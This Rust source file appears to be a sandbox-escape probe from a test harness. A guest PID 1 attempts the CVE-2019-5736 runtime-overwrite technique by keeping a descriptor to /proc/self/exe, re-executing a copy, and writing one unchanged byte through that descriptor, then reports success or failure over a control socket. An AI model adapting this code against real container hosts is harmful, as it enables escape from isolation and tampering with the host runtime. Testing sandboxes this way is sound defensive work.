//! A guest that was taken over: PID 1 that wants to change the program which every later sandbox starts with.
//!
//! It opens its own program, becomes another one so that nothing executes it any more, and writes through the descriptor that
//! it kept (CVE-2019-5736). The answer goes over the control socket: `through` or `stopped`, and why.

use std::ffi::CString;
use std::fs::{self, OpenOptions};
use std::io::Write;
use std::os::unix::fs::PermissionsExt;

use crate::raw_value;

const COPY: &str = "/workspace/copy";
const CONTROL: i64 = 3;
/// Where the descriptor of the program is kept. Duplicates survive the execution.
const KEPT: i64 = 20;

pub fn be() -> ! {
    let exe = CString::new("/proc/self/exe").unwrap_or_default();
    // open, dup2
    let program = raw_value([2, exe.as_ptr() as i64, 0, 0, 0, 0, 0]);
    let kept = raw_value([33, program, KEPT, 0, 0, 0, 0]);
    let copied = fs::copy("/proc/self/exe", COPY)
        .and_then(|_| fs::set_permissions(COPY, fs::Permissions::from_mode(0o755)));
    if kept < 0 || copied.is_err() {
        say(&format!("stopped: no copy of the program: {copied:?}"));
    }
    let words = [COPY, "overwrite", "/proc/self/fd/20"].map(|word| CString::new(word).unwrap_or_default());
    let arguments = [words[0].as_ptr(), words[1].as_ptr(), words[2].as_ptr(), std::ptr::null()];
    let environment: [*const i8; 1] = [std::ptr::null()];
    // execve; the number of PID 1 stays, so the program is told by its arguments what to do.
    raw_value([59, words[0].as_ptr() as i64, arguments.as_ptr() as i64, environment.as_ptr() as i64, 0, 0, 0]);
    say("stopped: the copy cannot be executed")
}

/// Writes the byte that is there already.
pub fn overwrite(path: &str) -> ! {
    let written = OpenOptions::new().write(true).open(path).and_then(|mut program| program.write_all(b"\x7f"));
    say(&written.map_or_else(|why| format!("stopped: {why}"), |()| "through: the program of PID 1 was written to".to_owned()))
}

fn say(words: &str) -> ! {
    raw_value([1, CONTROL, words.as_ptr() as i64, words.len() as i64, 0, 0, 0]);
    loop {
        std::thread::park();
    }
}
